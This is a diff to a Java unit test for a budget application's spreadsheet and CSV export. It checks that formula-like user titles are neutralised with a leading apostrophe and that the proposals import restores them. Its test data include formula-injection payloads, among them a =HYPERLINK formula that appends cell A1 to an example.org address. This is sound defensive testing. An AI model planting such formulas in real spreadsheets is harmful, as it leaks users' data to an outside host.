@@ -18,6 +18,7 @@ import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.junit.jupiter.api.Assertions;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
@@ -25,11 +26,12 @@ import org.junit.jupiter.api.Test;
  * Text from users never becomes a formula in a spreadsheet: in the open data's CSV a title that
  * starts with =, +, -, @, a tab or a carriage return is written with a leading apostrophe (and
  * quoted where needed), while amounts, also negative ones, stay plain numbers; in the workbook such
- * a title is a text cell, not a formula.
+ * a title is a text cell with the same leading apostrophe (so that editing the cell does not make it
+ * a formula either), which the proposals import takes off again.
  */
 class FormulaInjectionTest {
   static final String HYPERLINK = "=HYPERLINK(\"https://example.org/x?\"&A1,\"Klik hier\")";
-  static final List<String> TITLES = List.of(HYPERLINK, "+31 lijn", "-SUM(A1:A9)", "@cmd", "\tverborgen", "\rterug");
+  static final List<String> TITLES = List.of(HYPERLINK, "+31 lijn", "-SUM(A1:A9)", "@cmd", "\tverborgen", "\rterug", "'=al met apostrof");
   static Budget budget;
 
   @BeforeAll
@@ -109,6 +111,11 @@ class FormulaInjectionTest {
         for (Row row : sheet) {
           for (var cell : row) {
             if (cell.getCellType() == CellType.STRING && TITLES.contains(cell.getStringCellValue())) {
+              Assertions.fail(sheet.getSheetName() + "!" + cell.getAddress() + ": formula-like text without its apostrophe");
+            }
+            if (cell.getCellType() == CellType.STRING && !cell.getStringCellValue().isEmpty()
+                && TITLES.contains(cell.getStringCellValue().substring(1))) {
+              assertThat(cell.getStringCellValue()).startsWith("'");
               found++;
             }
             if (cell.getCellType() == CellType.FORMULA) {
@@ -119,5 +126,24 @@ class FormulaInjectionTest {
       }
     }
     assertThat(found).as("each planted title as a text cell at least once").isGreaterThanOrEqualTo(TITLES.size());
+  }
+
+  @Test
+  void theProposalsImportTakesTheApostropheOffAgain() throws IOException {
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    Publisher.xlsx(Publication.of(budget), out);
+    ProposalImport.Result result = Publisher.importProposals(new ByteArrayInputStream(out.toByteArray()), budget);
+    assertThat(result).isInstanceOf(ProposalImport.Imported.class);
+    List<String> titles = ((ProposalImport.Imported) result).proposals().stream().map(Proposal::title).toList();
+    assertThat(titles).contains(HYPERLINK, "+31 lijn", "-SUM(A1:A9)", "@cmd", "'=al met apostrof").noneMatch(t -> t.startsWith("'") && !t.startsWith("'=al"));
+  }
+
+  @Test
+  void inertAndRestoreAreInverse() {
+    for (String s : List.of("=1", "'=1", "''=1", "'s-Hertogenbosch", "gewoon", "", "'", "-5", "@")) {
+      assertThat(CsvText.restore(CsvText.inert(s))).as(s).isEqualTo(s);
+    }
+    assertThat(CsvText.inert("'s-Hertogenbosch")).isEqualTo("'s-Hertogenbosch");
+    assertThat(CsvText.inert("'=1")).isEqualTo("''=1");
   }
 }
